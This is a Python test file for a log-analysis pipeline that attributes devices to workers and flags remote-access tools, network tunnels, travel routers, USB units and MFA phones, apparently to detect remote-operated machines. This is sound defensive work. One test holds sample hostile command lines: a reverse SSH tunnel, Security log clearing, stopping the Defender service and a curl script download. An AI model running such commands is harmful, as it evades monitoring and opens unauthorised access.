from __future__ import annotations

from tests.facts.deriving import HOME, fact, line

WORKER = {"subject": "w1", "worker_id": "1", "is_worker": True, "start_at": "2026-01-01T00:00:00Z"}


def test_a_machine_is_known_by_every_name_the_logs_use():
    device = {"device_id": "mde-1", "directory_id": "entra-1", "device_name": "lap-1", "worker_id": "1", "at": 5}

    owners = fact("device_owners", people=[WORKER], device=[device])

    assert {row["device"] for row in owners} == {"mde-1", "entra-1", "lap-1"}
    assert {row["subject"] for row in owners} == {"w1"}


def test_the_inventorys_latest_word_says_whose_machine_it_is():
    other = WORKER | {"subject": "w2", "worker_id": "2"}
    device = [{"device_id": "d1", "worker_id": "1", "at": 5}, {"device_id": "d1", "worker_id": "2", "at": 9}]

    (owner,) = fact("device_owners", people=[WORKER, other], device=device)

    assert owner["subject"] == "w2"


def test_of_a_machine_handed_on_the_new_owner_answers_for_nothing_of_the_time_before():
    other = WORKER | {"subject": "w2", "worker_id": "2"}
    held = {"device_id": "d1", "serial": "S1"}
    device = [
        held | {"worker_id": "2", "at": "2026-01-05T00:00:00Z"},
        held | {"worker_id": "1", "at": "2026-03-02T00:00:00Z"},
    ]
    stick = {"device_id": "d1", "bus": "usbstor", "vendor": "SanDisk", "product": "Ultra", "serial": "4c530001231115"}
    plugged = [stick | {"at": "2026-01-20T10:00:00Z"}]
    delivered = {"subject": "w1", "serial": "S1", "delivered_at": "2026-02-01T10:00:00Z", "at": 5}
    people = [WORKER, other]

    assert fact("units", people=people, device=device, peripheral=plugged) == []
    assert fact("units", people=people, device=device[1:], peripheral=plugged)[0]["subject"] == "w1"
    later = [stick | {"at": "2026-02-20T10:00:00Z"}]
    assert fact("units", people=people, device=device, peripheral=later, parcels=[delivered])[0]["subject"] == "w1"


def test_a_parcel_tells_too_that_a_machine_was_somebody_elses():
    device = {"device_id": "d1", "serial": "S1", "worker_id": "1", "at": "2026-03-02T00:00:00Z"}
    parcels = [
        {"subject": subject, "serial": "S1", "delivered_at": day, "at": 5}
        for subject, day in (("w2", "2025-05-01T10:00:00Z"), ("w1", "2026-03-01T10:00:00Z"))
    ]
    router = {"device_id": "d1", "gateway_mac": "9483c4aabbcc"}
    seen = [router | {"at": "2025-06-01T10:00:00Z"}, router | {"at": "2026-03-02T10:00:00Z"}]

    (stay,) = fact("network_stays", people=[WORKER], device=[device], parcels=parcels, device_network=seen)

    assert stay["day"] == 20514


def test_without_an_inventory_the_one_most_often_at_the_keyboard_owns_it():
    guest = WORKER | {"subject": "w2", "worker_id": "2"}
    process = [
        {"device_id": "d1", "account": "w1", "at": "2026-03-02T10:00:00Z", "times": 5},
        {"device_id": "d1", "account": "w2", "at": "2026-03-02T11:00:00Z"},
        {"device_id": "d1", "account": "system", "at": "2026-03-02T11:00:00Z", "times": 50},
    ]

    (owner,) = fact("device_owners", people=[WORKER, guest], process=process)

    assert owner["subject"] == "w1"


def test_a_machine_that_logs_know_by_name_alone_is_owned_by_that_name():
    unlocked = [{"device_name": "lap-1", "account": "w1", "logon_type": "unlock", "at": "2026-03-02T10:00:00Z"}]
    started = [{"device_name": "lap-2", "account": "w1", "at": "2026-03-02T10:00:00Z"}]

    owners = fact("device_owners", people=[WORKER], activity=unlocked, process=started)

    assert [(row["device"], row["subject"]) for row in owners] == [("lap-1", "w1"), ("lap-2", "w1")]


def test_who_comes_over_the_network_or_fails_to_log_on_is_at_no_keyboard():
    reached = {"device_name": "files-1", "account": "w1", "at": "2026-03-02T10:00:00Z"}
    activity = [reached | {"logon_type": "network"}, reached | {"logon_type": "interactive", "outcome": "failure"}]

    assert fact("device_owners", people=[WORKER], activity=activity) == []


def test_a_tool_is_dated_from_the_delivery_of_the_machine_and_not_from_its_preparation():
    prepared = "2026-02-01T00:00:00Z"
    device = {"device_id": "d1", "serial": "S1", "worker_id": "1", "at": 5, "issued_at": prepared}
    parcel = {"subject": "w1", "serial": "S1", "delivered_at": "2026-03-01T10:00:00Z", "at": 5}
    run = {"device_id": "d1", "account": "system", "file_name": "anydesk.exe", "at": "2026-03-02T10:00:00Z"}
    catalogue = [{"tool": "AnyDesk", "match": "file_name", "pattern": "anydesk.exe"}]

    (tool,) = fact("tools", people=[WORKER], device=[device], parcels=[parcel], process=[run], rmm=catalogue)

    assert (tool["subject"], tool["days_after_issue"]) == ("w1", 1.0)


def test_private_networks_and_tunnels_are_no_remote_access_tools():
    catalogue = [{"tool": "Tailscale", "category": "mesh", "match": "file_name", "pattern": "tailscaled.exe"}]
    run = {"device_id": "d1", "account": "w1", "file_name": "tailscaled.exe", "at": "2026-03-02T10:00:00Z"}

    assert fact("tools", people=[WORKER], process=[run], rmm=catalogue) == []


def test_a_tool_that_runs_under_another_name_is_known_by_its_own_record():
    catalogue = [
        {"tool": "RustDesk", "match": "original_name", "pattern": "rustdesk.exe"},
        {"tool": "AnyDesk", "match": "file_name", "pattern": "anydesk.exe"},
    ]
    run = {"device_id": "d1", "account": "w1", "at": "2026-03-02T10:00:00Z"}
    process = [
        run | {"file_name": "winhelper.exe", "original_name": "rustdesk.exe"},
        run | {"file_name": "anydesk (1).exe", "original_name": "anydesk.exe"},
    ]

    tools = fact("tools", people=[WORKER], process=process, rmm=catalogue)

    assert {row["tool"]: row["renamed"] for row in tools} == {"RustDesk": True, "AnyDesk": False}


def test_a_site_counts_in_a_browser_and_a_makers_page_does_not():
    programs = [
        {"program": "otp.ee", "purpose": "code_site", "match": "domain", "pattern": "otp.ee"},
        {"program": "Astrill", "purpose": "vpn_client", "match": "domain", "pattern": "astrill.com"},
    ]
    opened = {"device_id": "d1", "account": "w1", "file_name": "chrome.exe", "at": "2026-03-02T10:00:00Z"}
    connection = [opened | {"remote_name": "otp.ee"}, opened | {"remote_name": "www.astrill.com"}]

    (found,) = fact("software", people=[WORKER], connection=connection, programs=programs)

    assert (found["tool"], found["category"], found["opened"], found["ran"]) == ("otp.ee", "code_site", True, False)


def test_what_a_gateway_tells_of_a_makers_site_is_no_tool():
    tools = [{"tool": "TeamViewer", "match": "domain", "pattern": "teamviewer.com"}]
    asked = {"device_id": "d1", "account": "w1", "at": "2026-03-02T10:00:00Z"}

    def found(**told: str) -> int:
        return len(fact("software", people=[WORKER], connection=[asked | told], rmm=tools))

    assert found(remote_name="www.teamviewer.com") == 0
    assert found(remote_name="www.teamviewer.com", file_name="microsoft edge helper") == 0
    assert found(remote_name="www.teamviewer.com", file_name="mdnsresponder") == 0
    assert found(remote_name="router15.teamviewer.com") == 1
    assert found(remote_name="www.teamviewer.com", file_name="tv.exe") == 1


def test_software_is_counted_by_days_and_not_by_starts():
    catalogue = [{"tool": "AnyDesk", "match": "file_name", "pattern": "anydesk.exe"}]
    start = {"device_id": "d1", "account": "w1", "file_name": "anydesk.exe", "at": "2026-03-02T10:00:00Z"}
    process = [
        start | {"path": "C:\\Users\\w1\\Downloads\\anydesk.exe", "times": 5, "every": 1},
        start | {"path": "C:\\Program Files\\AnyDesk\\anydesk.exe", "at": "2026-03-03T10:00:00Z"},
    ]

    (tool,) = fact("tools", people=[WORKER], process=process, rmm=catalogue)

    assert (tool["days"], tool["portable_days"]) == (2, 1)


def test_a_tool_that_most_people_run_is_the_companys_own():
    people = [WORKER | {"subject": f"w{number}", "worker_id": str(number)} for number in range(6)]
    catalogue = [{"tool": "Help", "match": "file_name", "pattern": "help.exe"}]
    runs = [
        {"device_id": f"d{number}", "account": f"w{number}", "file_name": "help.exe", "at": "2026-03-02T10:00:00Z"}
        for number in range(6)
    ]

    assert all(row["common"] for row in fact("tools", people=people, process=runs, rmm=catalogue))
    assert not any(row["common"] for row in fact("tools", people=people, process=runs[:3], rmm=catalogue))


def test_a_phone_is_held_until_it_is_removed_or_its_owner_leaves():
    held = [
        {"account": "w1", "at": "2026-01-01T00:00:00Z", "action": "registered", "device": "opf1a2b3c4d5e6f7g8h9"},
        {"account": "w1", "at": "2026-02-01T00:00:00Z", "action": "removed", "device": "opf1a2b3c4d5e6f7g8h9"},
    ]
    gone = WORKER | {"end_at": "2026-03-01T00:00:00Z"}

    (removed,) = fact("factor_uses", people=[WORKER], factor=held)
    (left,) = fact("factor_uses", people=[gone], factor=held[:1])

    assert removed["held_until"] == removed["at"] + 31 * 86_400_000_000
    assert left["held_until"] == left["at"] + 59 * 86_400_000_000


def test_a_model_names_no_single_thing():
    models = ["iphone 15 pro", "sm-g991u", "2311drk48g", "pixel-7-pro-max"]
    things = ["opf1a2b3c4d5e6f7g8h9", "6f1c0f6e-11aa-4b2c-9d3e-0a1b2c3d4e5f"]
    factor = [{"account": "w1", "at": 5, "action": "used", "device": name} for name in models + things]

    specific = {row["value"] for row in fact("factor_uses", factor=factor) if row["specific"]}

    assert specific == set(things)


def test_a_masked_phone_number_is_no_identity():
    factor = [
        {"account": "w1", "at": 5, "action": "used", "phone": "+12025550101"},
        {"account": "w2", "at": 5, "action": "used", "phone": "+1 xxxxxxxx01"},
    ]

    assert [row["specific"] for row in fact("factor_uses", factor=factor)] == [True, False]


def test_a_name_that_machines_bear_as_they_come_has_no_owner():
    device = [
        {"device_name": "macbook-pro", "device_id": "d1", "account": "w1", "at": 5},
        {"device_name": "lap-1", "device_id": "d1", "account": "w1", "at": 5},
        {"device_name": "mac-0042", "device_id": "d1", "account": "w1", "at": 5},
    ]
    names = ("localhost.localdomain", "macbook-pro-2.local", "imac-3")
    process = [{"device_name": name, "account": "w1", "at": 5, "file_name": "a.exe"} for name in names]

    owners = fact("device_owners", people=[WORKER], device=device, process=process)

    assert {row["device"] for row in owners} == {"d1", "lap-1", "mac-0042"}


def test_what_five_peoples_machines_are_seen_from_is_the_companys_own_way_out():
    names = [f"w{number}" for number in range(5)]
    people = [{"subject": name, "is_worker": True} | HOME for name in names]
    device = [{"device_id": f"d-{name}", "account": name, "at": 5, "public_ip": "203.0.113.9"} for name in names]
    home, office = line("203.0.113.9", 34.0, -118.2), line("203.0.113.9", 34.0, -118.2, ip_class="corporate")

    assert fact("device_places", people=people, device=device, addresses=[office]) == []
    assert len(fact("device_places", people=people, device=device, addresses=[home])) == 5
    assert len(fact("device_places", people=people[:4], device=device[:4], addresses=[office])) == 4


def test_commands_are_told_apart_by_their_lines():
    start = {"device_id": "d1", "account": "w1", "at": "2026-03-02T10:00:00Z"}
    lines = {
        "ssh": "ssh -N -R 8080:localhost:22 host",
        "wevtutil.exe": "wevtutil cl Security",
        "sc.exe": "sc stop sense",
        "curl": "curl -O http://192.168.1.9/a.sh",
        "remoting_start_host": "remoting_start_host --code=4/0A",
        "whoami": "whoami",
        "cmd.exe": "cmd /c dir",
    }
    process = [start | {"file_name": name, "command_line": line} for name, line in lines.items()]

    found = fact("commands", people=[WORKER], process=process)

    assert {row["word"]: row["deed"] for row in found} == {
        "ssh": "tunnel",
        "wevtutil": "wiped",
        "sc": "unguarded",
        "curl": "home_fetch",
        "remoting_start_host": "headless_chrome",
        "whoami": "survey",
    }


def test_a_network_is_a_cable_or_wifi_by_its_adapter():
    device = {"device_id": "d1", "worker_id": "1", "at": 5}
    seen = [
        {"device_id": "d1", "adapter": "Wireless80211", "wifi": "home", "at": "2026-03-02T10:00:00Z"},
        {"device_id": "d1", "adapter": "Ethernet", "gateway_mac": "9483c4112233", "at": "2026-03-03T10:00:00Z"},
        {"device_id": "d1", "adapter": "wlp2s0", "gateway_hash": "aa", "at": "2026-03-04T10:00:00Z"},
    ]

    stays = fact("network_stays", people=[WORKER], device=[device], device_network=seen)

    assert {row["network"]: (row["medium"], row["router"]) for row in stays} == {
        "wifi:home": ("wifi", None),
        "mac:9483c4112233": ("cable", "travel_router"),
        "hash:aa": ("wifi", None),
    }


def test_a_laptop_is_shut_on_a_day_only_when_every_look_says_so():
    look = {"device_name": "lap-1", "account": "w1", "power": "mains"}
    looks = [
        look | {"lid": "closed", "at": "2026-03-02T10:00:00Z"},
        look | {"lid": "closed", "at": "2026-03-03T10:00:00Z"},
        look | {"lid": "open", "built_in_display": True, "at": "2026-03-03T11:00:00Z"},
    ]

    days = fact("laptop_days", people=[WORKER], device_posture=looks)

    assert [(row["shut"], row["opened"], row["battery"]) for row in days] == [
        (True, False, False),
        (False, True, False),
    ]


def test_a_number_that_a_maker_gives_to_every_unit_is_no_single_piece():
    device = {"device_id": "d1", "worker_id": "1", "at": 5}
    numbers = ("000001000000", "200901010001", "20100201396000000", "77777777", "4c530001231115", "20991315a7")
    unit = {"device_id": "d1", "bus": "usb", "vendor_id": "0bda", "product_id": "8153", "at": 5}
    attached = [unit | {"serial": number} for number in numbers]

    assert len(fact("units", people=[WORKER], device=[device], peripheral=attached)) == 2


def test_a_public_address_of_the_house_is_no_session_from_outside():
    device = {"device_id": "d1", "worker_id": "1", "at": 5}
    session = {"device_id": "d1", "account": "w1", "logon_type": "remoteinteractive"}
    came = [
        session | {"ip": ip, "at": f"2026-03-0{day}T10:00:00Z"}
        for day, ip in enumerate(("203.0.113.9", "2001:db8::7", "2001:db8:1::7"), 1)
    ]
    addresses = [
        line("203.0.113.9", 34.0, -118.2),
        line("2001:db8::7", 34.0, -118.2),
        line("2001:db8:1::7", 34.0, -118.2, ip_class="hosting"),
    ]

    days = fact("remote_days", people=[WORKER], device=[device], activity=came, addresses=addresses)

    assert [day["from_outside"] for day in days] == [True, False, True]


def test_a_desktop_machine_has_no_life_of_a_laptop():
    look = {"device_name": "desk-1", "account": "w1", "displays": 2, "at": "2026-03-02T10:00:00Z"}

    assert fact("laptop_days", people=[WORKER], device_posture=[look]) == []
